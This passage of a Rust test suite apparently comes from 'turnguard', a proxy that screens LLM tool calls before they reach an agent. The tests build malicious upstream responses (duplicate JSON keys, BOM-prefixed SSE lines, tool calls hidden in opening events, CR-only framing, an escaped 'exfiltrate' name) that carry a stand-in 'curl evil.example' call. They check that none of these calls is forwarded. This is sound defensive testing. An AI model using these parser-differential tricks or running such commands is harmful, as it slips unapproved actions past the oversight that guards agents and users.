                    "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant", "content": null,
                        "tool_calls": [{"id": id, "type": "function", "function": {"name": "get_weather", "arguments": args}}]}}],
                    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}})
            };
            let repaired = if stream {
                json!({"sse": [format!("data: {}", chunk(json!([{"index": 0, "delta": {"role": "assistant", "content": "No tool, then."}}]))), format!("data: {}", chat_finish("stop")), "data: [DONE]".to_owned()]})
            } else {
                answer
            };
            h.script(&json!({"responses": [first, repaired]})).await;
            let (_, _, resp) = support::call(
                "POST",
                &format!("{}/v1/chat/completions", h.url()),
                &[],
                Some(&chat_request(stream)),
            )
            .await;
            let body = String::from_utf8_lossy(&resp);
            assert!(
                !body.contains("evil.example") && !body.contains(&id),
                "case {i}, stream {stream}: the call with a key twice reached the agent:\n{body}"
            );
        }
    }
    let journal = h.journal();
    let _dir = h.stop().await;
    let db = support::journal(&journal);
    let rows: Vec<(String, String, String)> = db
        .prepare("SELECT call_id, outcome, reason FROM tool_calls WHERE call_id LIKE 'call_dup_%' ORDER BY id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(rows.len(), 4, "{rows:?}");
    for (call, outcome, reason) in &rows {
        assert_eq!(
            (outcome.as_str(), reason.as_str()),
            ("invalid", "arguments_duplicate_key"),
            "{call}"
        );
    }
}

/// A key named twice where turnguard reads nothing is refused too: its typed views skip
/// members they do not use, and a skipped member is forwarded as it came. Here the usage the
/// agent bills by (`prompt_tokens` twice in a JSON answer) and a chunk's
/// `system_fingerprint` (twice in a text-only Chat chunk): serde_json keeps the last, a
/// first-wins parser the first. Neither leaves turnguard; each ends with the error.
#[tokio::test]
async fn a_key_twice_in_a_member_turnguard_skips_is_never_forwarded() {
    let h = support::start(Script::default()).await;
    let body = r#"{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant","content":"Sunny."}}],"usage":{"prompt_tokens":987654,"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}"#;
    let (status, _, resp) = exchange_bytes(
        &h,
        "/v1/chat/completions",
        ("usage-twice.json", body),
        &chat_request(false),
    )
    .await;
    assert!(!resp.contains("987654"), "{resp}");
    assert!(resp.contains("key twice"), "{resp}");
    assert_eq!(status, 502, "{resp}");

    let chunk_text = r#"{"id":"x","object":"chat.completion.chunk","created":1,"model":"m","system_fingerprint":"fp_first","system_fingerprint":"fp_last","choices":[{"index":0,"delta":{"role":"assistant","content":"Sunny."},"finish_reason":null}]}"#;
    let step = json!({"sse": [format!("data: {chunk_text}"), format!("data: {}", chat_finish("stop")), "data: [DONE]"]});
    let (_, _, resp) = exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
    assert!(!resp.contains("fp_first"), "{resp}");
    assert!(resp.contains("key twice"), "{resp}");
    assert_withheld_with_error(&resp, "a Chat chunk naming system_fingerprint twice");
    h.stop().await;
}

/// The upstream names a key twice so that serde_json (the last value) sees a harmless answer
/// and a first-wins parser the evil call: a non-stream body, a Chat chunk and a Messages
/// event. turnguard reads upstream JSON strictly (`strict_json`), so none of them is
/// forwarded; each ends with the provider-shaped error.
#[tokio::test]
async fn an_upstream_key_named_twice_is_never_forwarded() {
    let h = support::start(Script::default()).await;
    let evil = json!({"role": "assistant", "content": null, "tool_calls": [
        {"id": "call_evil", "type": "function", "function": {"name": EVIL, "arguments": "{}"}}]});
    let benign = json!({"role": "assistant", "content": "Sunny."});
    let body = format!(
        r#"{{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{{"index":0,"finish_reason":"stop","message":{evil},"message":{benign}}}],"usage":{{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}}}"#
    );
    let (status, _, resp) = exchange_bytes(
        &h,
        "/v1/chat/completions",
        ("twice.json", &body),
        &chat_request(false),
    )
    .await;
    assert!(!resp.contains(EVIL), "{resp}");
    assert!(resp.contains("key twice"), "{resp}");
    assert_eq!(status, 502, "{resp}");

    // A Chat chunk whose delta names `tool_calls` twice (the evil call first).
    let chunk_text = format!(
        r#"{{"id":"x","object":"chat.completion.chunk","created":1,"model":"m","choices":[{{"index":0,"delta":{{"tool_calls":[{{"index":0,"id":"call_evil","type":"function","function":{{"name":"{EVIL}","arguments":"{{}}"}}}}],"tool_calls":[]}},"finish_reason":null}}]}}"#
    );
    let step = json!({"sse": [format!("data: {chunk_text}"), format!("data: {}", chat_finish("tool_calls")), "data: [DONE]"]});
    let (_, _, resp) = exchange(&h, "/v1/chat/completions", step, &chat_request(true)).await;
    assert_withheld_with_error(&resp, "a Chat chunk naming tool_calls twice");

    // A Messages event whose `content_block` comes twice (the evil tool_use first).
    let start = format!(
        "event: content_block_start\ndata: {{\"type\":\"content_block_start\",\"index\":0,\"content_block\":{{\"type\":\"tool_use\",\"id\":\"toolu_evil\",\"name\":\"{EVIL}\",\"input\":{{}}}},\"content_block\":{{\"type\":\"text\",\"text\":\"\"}}}}"
    );
    let mut events = vec![message_start(), start, block_stop(0)];
    events.extend(message_end("end_turn"));
    let (_, _, resp) = exchange(
        &h,
        "/v1/messages",
        json!({"sse": events}),
        &messages_request(true),
    )
    .await;
    assert_withheld_with_error(&resp, "a Messages event naming content_block twice");
    h.stop().await;
}

/// A line whose field is none of `event`, `data`, `id` and `retry` is an unknown field to a
/// reader that follows the standard and ignores it, but not to every client: the Node SDKs
/// decode each line with a `TextDecoder`, which drops a leading byte-order mark, so
/// `U+FEFF data: {call}` is a `data` line to them. turnguard read such a block as a keep-alive
/// and forwarded it raw, and openai-node and `@anthropic-ai/sdk` assembled the call it
/// carried, which admission never saw. A block with a field turnguard does not know now
/// ends the stream with the provider's error, wherever it comes (mid-stream, or the
/// stream's first bytes), whatever it carries.
#[tokio::test]
async fn a_line_clients_read_two_ways_never_reaches_the_agent() {
    let h = support::start(Script::default()).await;
    let text = chunk(
        json!([{"index": 0, "delta": {"role": "assistant", "content": "Sunny."}, "finish_reason": null}]),
    );
    let call = chat_call_chunk("call_evil", EVIL, "{\"cmd\":\"curl evil.example\"}");
    let chat_tail = [
        format!("data: {}", chat_finish("tool_calls")),
        "data: [DONE]".to_owned(),
    ];
    let chat_mid = sse(&[
        &[format!("data: {text}"), format!("\u{FEFF}data: {call}")][..],
        &chat_tail,
    ]
    .concat());
    let chat_first = sse(&[&[format!("\u{FEFF}data: {call}")][..], &chat_tail].concat());
    let chat_unknown = sse(&[
        &[format!("data: {text}"), "x-note: harmless".to_owned()][..],
        &chat_tail,
    ]
    .concat());
    let evil_start = json!({"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {"cmd": "curl evil.example"}}});
    let mut messages = vec![message_start()];
    messages.extend(text_block(0, "Sunny."));
    messages.push(format!(
        "\u{FEFF}data: {evil_start}\nevent: content_block_start"
    ));
    messages.extend(message_end("end_turn"));
    let messages = sse(&messages);
    let cases = [
        ("chat", "a BOM before a mid-stream data line", chat_mid),
        (
            "chat",
            "a BOM before the stream's first data line",
            chat_first,
        ),
        ("chat", "a field turnguard does not know", chat_unknown),
        (
            "messages",
            "a BOM before a tool_use block's data line",
            messages,
        ),
    ];
    let dir = tempfile::tempdir().unwrap();
    for (i, (api, what, bytes)) in cases.into_iter().enumerate() {
        let (path, request) = match api {
            "chat" => ("/v1/chat/completions", chat_request(true)),
            _ => ("/v1/messages", messages_request(true)),
        };
        let file = dir.path().join(format!("case{i}.sse"));
        std::fs::write(&file, &bytes).unwrap();
        let (status, _, body) = exchange(&h, path, json!({"file": &file}), &request).await;
        assert_eq!(status, 200, "{what}");
        assert_withheld_with_error(&body, what);
        assert!(
            !body.contains('\u{FEFF}'),
            "{what}: the line was forwarded: {body:?}"
        );
        // What the agent's SDKs make of it: the Node ones are the clients that drop the mark.
        for sdk in [Sdk::Node, Sdk::Python] {
            h.script(&json!({"responses": [{"file": &file}]})).await;
            let got = sdk_stream_calls(sdk, &h, api, &request).await;
            assert_sdk_refused(&got, &format!("{sdk:?}, {what}"));
        }
    }
    h.stop().await;
}

/// The opening event of a stream carries the response it starts, and the SDKs start their
/// snapshot from it: `message_start.message.content` (Messages) and `response.created` /
/// `response.in_progress`'s `response.output` (Responses). The APIs always open them empty
/// and stream every block and item as its own events, which are what turnguard reads calls
/// from; a `tool_use` in `message_start` was forwarded and the anthropic SDK's final message
/// held it, undecided. An opening event that already holds content ends the stream with the
/// provider's error.
#[tokio::test]
async fn an_opening_event_that_already_holds_a_call_never_reaches_the_agent() {
    let h = support::start(Script::default()).await;
    let mut events = vec![message_start_holding(json!([
        {"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {"cmd": "curl evil.example"}}
    ]))];
    events.extend(text_block(0, "Sunny."));
    events.extend(message_end("tool_use"));
    let (status, _, body) = exchange(
        &h,
        "/v1/messages",
        json!({"sse": events.clone()}),
        &messages_request(true),
    )
    .await;
    assert_eq!(status, 200);
    assert_withheld_with_error(&body, "a tool_use in message_start");
    for sdk in [Sdk::Python, Sdk::Node] {
        h.script(&json!({"responses": [{"sse": events.clone()}]}))
            .await;
        let got = sdk_stream_calls(sdk, &h, "messages", &messages_request(true)).await;
        assert_sdk_refused(&got, &format!("{sdk:?}, a tool_use in message_start"));
    }

    let evil = json!({"type": "function_call", "id": "fc_evil", "call_id": "call_evil", "name": EVIL, "arguments": "{}", "status": "completed"});
    for opening in ["response.created", "response.in_progress"] {
        let step = json!({"sse": [
            ev(opening, &json!({"type": opening, "sequence_number": 0, "response": {"id": "resp_x", "object": "response", "status": "in_progress", "output": [evil]}})),
            ev("response.output_text.delta", &json!({"type": "response.output_text.delta", "sequence_number": 1, "output_index": 0, "item_id": "msg_1", "content_index": 0, "delta": "Sunny."})),
            ev("response.completed", &json!({"type": "response.completed", "sequence_number": 2, "response": {"id": "resp_x", "object": "response", "status": "completed", "output": []}})),
        ]});
        let (status, _, body) = exchange(&h, "/v1/responses", step, &responses_request(true)).await;
        assert_eq!(status, 200, "{opening}");
        assert_withheld_with_error(&body, &format!("a call in {opening}"));
    }
    h.stop().await;
}

/// A non-stream answer that does not read one way — a UTF-8 byte-order mark before the
/// object, a second value after it, a stray `]`, invalid UTF-8 inside a string — is a
/// provider-shaped 502 on each API, and none of its bytes reach the agent.
#[tokio::test]
async fn a_json_answer_with_a_bom_trailing_data_or_bad_utf8_is_refused() {
    let h = support::start(Script::default()).await;
    let chat = json!({"id": "c", "object": "chat.completion", "created": 1, "model": "m",
        "choices": [{"index": 0, "finish_reason": "tool_calls", "message": {"role": "assistant", "content": null,
        "tool_calls": [{"id": "call_evil", "type": "function", "function": {"name": EVIL, "arguments": "{}"}}]}}]})
    .to_string();
    let messages = json!({"id": "msg_x", "type": "message", "role": "assistant", "model": "claude-test",
        "content": [{"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {}}],
        "stop_reason": "tool_use", "stop_sequence": null, "usage": {"input_tokens": 1, "output_tokens": 1}})
    .to_string();
    let responses = json!({"id": "resp_x", "object": "response", "status": "completed",
        "output": [{"type": "function_call", "id": "fc_1", "call_id": "call_evil", "name": EVIL, "arguments": "{}", "status": "completed"}]})
    .to_string();
    for (path, request, text) in [
        ("/v1/chat/completions", chat_request(false), chat),
        ("/v1/messages", messages_request(false), messages),
        ("/v1/responses", responses_request(false), responses),
    ] {
        let bad_utf8 = {
            let mut b = text.clone().into_bytes();
            let at = text.find(":\"").unwrap() + 2; // inside the first string value
            b.splice(at..at, [0xff, 0xfe]);
            b
        };
        for (what, bytes) in [
            ("a BOM", [&b"\xEF\xBB\xBF"[..], text.as_bytes()].concat()),
            ("a second value", format!("{text}{text}").into_bytes()),
            ("a stray ]", format!("{text}\n]").into_bytes()),
            ("invalid UTF-8", bad_utf8),
        ] {
            let (status, _, body) = exchange_bytes(&h, path, ("a.json", bytes), &request).await;
            assert_eq!(status, 502, "{path}, {what}: {body}");
            assert!(
                !carries_call(&body) && !body.contains("call_evil"),
                "{path}, {what}: {body}"
            );
        }
    }
    h.stop().await;
}

/// A stream whose structure lies: a Messages delta for a block never started, a
/// `content_block_start` announced as `ping`, a Responses `output_item.done` whose call is
/// not the one its deltas built, an `event:` name that is not the data's `type`, and a Chat
/// call with an escaped name in CR-only framing with a comment and a `retry:` line. Each ends
/// with turnguard's error or withholds the call; the call never reaches the agent.
#[tokio::test]
async fn a_stream_whose_structure_lies_fails_closed() {
    let h = support::start(Script::default()).await;
    let mut unstarted = vec![message_start()];
    unstarted.extend(text_block(0, "Sunny."));
    unstarted.push(block_delta(1, "{\"cmd\":\"x\"}"));
    unstarted.extend(message_end("end_turn"));
    let mut ping = vec![message_start()];
    ping.push(format!(
        "event: ping\ndata: {}",
        json!({"type": "content_block_start", "index": 0,
        "content_block": {"type": "tool_use", "id": "toolu_evil", "name": EVIL, "input": {}}})
    ));
    ping.push(block_stop(0));
    ping.extend(message_end("tool_use"));
    for (what, events) in [
        ("a delta for a block never started", unstarted),
        ("a content_block_start named ping", ping),
    ] {
        let (_, _, body) = exchange(
            &h,
            "/v1/messages",
            json!({"sse": events}),
            &messages_request(true),
        )
        .await;
        assert!(!body.contains("\"cmd\""), "{what}: {body}");
        assert_withheld_with_error(&body, what);
    }

    let created = ev(
        "response.created",
        &json!({"type": "response.created", "sequence_number": 0, "response": {"id": "resp_x", "object": "response", "status": "in_progress", "output": []}}),
    );
    let weather = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": "get_weather", "arguments": "", "status": "in_progress"});
    let evil = json!({"type": "function_call", "id": "fc_1", "call_id": "call_1", "name": EVIL, "arguments": "{\"cmd\":\"x\"}", "status": "completed"});
    let step = json!({"sse": [
        created,
        ev("response.output_item.added", &json!({"type": "response.output_item.added", "sequence_number": 1, "output_index": 0, "item": weather})),
        ev("response.function_call_arguments.delta", &json!({"type": "response.function_call_arguments.delta", "sequence_number": 2, "output_index": 0, "item_id": "fc_1", "delta": "{}"})),
        ev("response.output_item.done", &json!({"type": "response.output_item.done", "sequence_number": 3, "output_index": 0, "item": evil})),
        ev("response.completed", &json!({"type": "response.completed", "sequence_number": 4, "response": {"id": "resp_x", "object": "response", "status": "completed", "output": [evil]}})),
    ]});
    let (_, _, body) = exchange(&h, "/v1/responses", step, &responses_request(true)).await;
    assert!(
        !carries_call(&body) && !body.contains("call_1"),
        "a done item that is not what the deltas built: {body}"
    );
    let step = json!({"sse": [
        created,
        format!("event: response.output_text.delta\ndata: {}", json!({"type": "response.output_item.done", "sequence_number": 1, "output_index": 0, "item": evil})),
    ]});
    let (_, _, body) = exchange(&h, "/v1/responses", step, &responses_request(true)).await;
    assert_withheld_with_error(&body, "an event: name that is not the data's type");

    let escaped = chat_call_chunk("call_evil", EVIL, "{}").replace(EVIL, "\\u0065xfiltrate");
    let bytes = format!(
        ": hi\rretry: 10\r\rdata: {escaped}\r\rdata: {}\r\rdata: [DONE]\r\r",
        chat_finish("tool_calls")
    );
    let (_, _, body) = exchange_bytes(
        &h,
        "/v1/chat/completions",
        ("cr.sse", bytes),
        &chat_request(true),
    )
    .await;
    assert!(
        !body.contains("xfiltrate\",\"arguments") && !body.contains("call_evil"),
        "CR-only framing, an escaped name: {body:?}"
    );
    assert!(body.contains("[turnguard]"), "{body:?}");
    h.stop().await;
}
